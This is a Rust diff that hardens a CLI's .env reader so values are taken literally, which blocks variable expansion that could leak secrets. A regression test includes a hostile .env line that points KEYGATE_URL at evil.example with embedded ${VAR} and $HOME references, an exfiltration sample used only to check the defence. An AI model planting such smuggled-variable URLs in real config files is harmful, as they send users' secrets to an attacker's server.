@@ -5,8 +5,9 @@
 //! the environment, then a `.env` file in the working directory, then the config file — with
 //! one exception that keeps the token safe: a `.env` file's URL is used only with the `.env`
 //! file's own token (a `.env` with a URL and no token is refused rather than handed the
-//! configured token; see [`choose`]). A `.env` file is read, never loaded into the process
-//! environment, so it cannot leak into a child process or shadow a real variable.
+//! configured token; see [`choose`]). A `.env` file is read literally (no `${VAR}` expansion),
+//! never loaded into the process environment, so it cannot leak into a child process, shadow
+//! a real variable or smuggle one into a URL.
 //! The config file holds a secret: it is written 0600 in a 0700 directory, atomically.
 
 use std::fmt;
@@ -164,26 +165,62 @@ fn private_file(path: &Path) -> std::io::Result<std::fs::File> {
 /// `KEYGATE_URL` and `KEYGATE_API_KEY` from `./.env`, if the file exists.
 fn dotenv_values() -> Result<(Option<String>, Option<String>, PathBuf), CliError> {
     let path = PathBuf::from(".env");
-    let mut url = None;
-    let mut key = None;
-    let iter = match dotenvy::from_path_iter(&path) {
-        Ok(iter) => iter,
-        Err(_) => return Ok((None, None, path)),
-    };
-    for item in iter {
-        let (name, value) = item.map_err(|e| {
-            CliError::usage_hint(
+    let text = match std::fs::read_to_string(&path) {
+        Ok(text) => text,
+        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok((None, None, path)),
+        Err(e) => {
+            return Err(CliError::usage_hint(
                 format!("cannot read ./.env: {e}"),
                 "Fix the file, or pass --url/--api-key explicitly.",
-            )
-        })?;
-        match name.as_str() {
+            ))
+        }
+    };
+    let (url, key) = parse_dotenv(&text);
+    Ok((non_empty(url), non_empty(key), path))
+}
+
+/// The two values Keygate reads from a `.env` text, first definition wins. Values are taken
+/// literally: no `${VAR}`/`$VAR` expansion, because a `.env` that came with a cloned repository
+/// could otherwise copy any variable of the user's environment (a cloud secret, the server
+/// secret) into the URL it names, and so into a request to its server. Surrounding quotes are
+/// removed, `export ` and comments are skipped, other variables are ignored.
+fn parse_dotenv(text: &str) -> (Option<String>, Option<String>) {
+    let mut url = None;
+    let mut key = None;
+    for line in text.lines() {
+        let line = line.trim();
+        let line = line.strip_prefix("export ").unwrap_or(line);
+        if line.starts_with('#') {
+            continue;
+        }
+        let Some((name, value)) = line.split_once('=') else {
+            continue;
+        };
+        let value = literal_value(value.trim());
+        match name.trim() {
             URL_VAR if url.is_none() => url = Some(value),
             KEY_VAR if key.is_none() => key = Some(value),
             _ => {}
         }
     }
-    Ok((non_empty(url), non_empty(key), path))
+    (url, key)
+}
+
+/// `"v"` and `'v'` (anything after the closing quote is a comment) → `v`; an unquoted value
+/// ends at ` #` (a trailing comment).
+fn literal_value(value: &str) -> String {
+    for quote in ['"', '\''] {
+        if let Some((inner, _)) = value
+            .strip_prefix(quote)
+            .and_then(|rest| rest.split_once(quote))
+        {
+            return inner.to_string();
+        }
+    }
+    match value.split_once(" #") {
+        Some((before, _)) => before.trim_end().to_string(),
+        None => value.to_string(),
+    }
 }
 
 fn non_empty(value: Option<String>) -> Option<String> {
@@ -357,6 +394,25 @@ mod tests {
         ))
         .expect("the environment's URL is the user's");
         assert_eq!(c.url, "http://mine.example");
+    }
+
+    #[test]
+    fn security_dotenv_values_are_literal_never_expanded() {
+        std::env::set_var("KEYGATE_TEST_LEAK_PROBE", "s3cret-from-the-environment");
+        let (url, key) = parse_dotenv(
+            "# a cloned repository's .env\n\
+             export KEYGATE_URL=\"https://evil.example/${KEYGATE_TEST_LEAK_PROBE}/$HOME\"\n\
+             KEYGATE_API_KEY='kgm_x' # comment\n\
+             KEYGATE_URL=http://second.example\n",
+        );
+        let url = url.expect("url");
+        assert_eq!(url, "https://evil.example/${KEYGATE_TEST_LEAK_PROBE}/$HOME");
+        assert!(!url.contains("s3cret"));
+        assert_eq!(key.as_deref(), Some("kgm_x"));
+        assert_eq!(
+            parse_dotenv("KEYGATE_API_KEY=kgm_y # note\nOTHER=1\nnot a pair\n"),
+            (None, Some("kgm_y".to_string()))
+        );
     }
 
     #[test]
